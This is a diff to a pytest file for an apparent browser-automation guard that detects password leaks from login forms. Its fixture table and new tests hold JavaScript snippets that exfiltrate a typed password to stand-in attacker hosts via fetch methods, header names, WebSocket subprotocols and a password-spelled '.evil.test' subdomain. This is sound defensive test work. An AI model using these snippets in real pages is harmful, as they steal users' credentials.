@@ -9,6 +9,7 @@ import pytest
 
 from explorer.request.account import Account
 from explorer.request.credential import Login
+from explorer.request.reach import reach_of
 from explorer.request.scope import scope_of
 from explorer.surfaces.surface import CREDENTIALS, Acted
 from explorer.surfaces.web.guard import _readings
@@ -52,6 +53,8 @@ SCRIPTS = {
         ".then(b=>fetch('{other}/take',{method:'POST',mode:'no-cors',body:b}))"
     ),
     "header": "fetch('{other}/take',{headers:{Accept:btoa('annabel:'+x)}})",
+    "method": "fetch('{other}/take',{method:x})",
+    "name of a header": "fetch('{other}/take',{headers:{[x]:'1'}})",
     "window": "window.open('').location='{other}/take?p='+x",
     "worker": "new Worker('/send.js').postMessage(x)",
     "fetched ahead": "{const l=document.createElement('link');l.rel='prefetch';l.href='{other}/take?p='+encodeURIComponent(x);document.head.append(l)}",
@@ -94,6 +97,30 @@ async def test_a_socket_cannot_be_stopped_and_is_told(world: World, what: str) -
         await typed(surface)
         told = await sent(surface)
         assert [(r.kind, r.data["how"]) for r in told] == [("leaked", "socket")]
+
+
+async def test_the_protocol_that_a_socket_asks_for_is_told_too(world: World) -> None:
+    open_ = "f.onsubmit=e=>{e.preventDefault();new WebSocket('{ws-other}/ws',[f.p.value]);document.title='sent'}"
+    async with world.surface(f"{FORM}<script>{open_}</script>", account=ACCOUNT) as surface:
+        await typed(surface)
+        told = await sent(surface)
+        assert [(r.kind, r.data["how"]) for r in told] == [("leaked", "socket")]
+
+
+async def test_a_name_that_spells_the_password_is_not_even_looked_up(world: World) -> None:
+    looked_up: list[str] = []
+
+    async def look(host: str, port: int, *, page: bool) -> tuple[str, ...] | None:
+        looked_up.append(host)
+        return ("93.184.216.34",)
+
+    reach = reach_of(world.origin("good"), world.resolve)
+    leave = "f.onsubmit=e=>{e.preventDefault();location='https://'+f.p.value+'.evil.test/'}"
+    async with world.surface(f"{FORM}<script>{leave}</script>", account=ACCOUNT, reach=reach) as surface:
+        surface.tab.watch.border.lookup = look  # type: ignore[union-attr]
+        await typed(surface)
+        told = await sent(surface)
+        assert [(r.kind, r.data["what"]) for r in told] == [("stopped", "the password")] and looked_up == []
 
 
 async def test_nothing_is_held_up_before_a_login_is_typed(world: World) -> None:
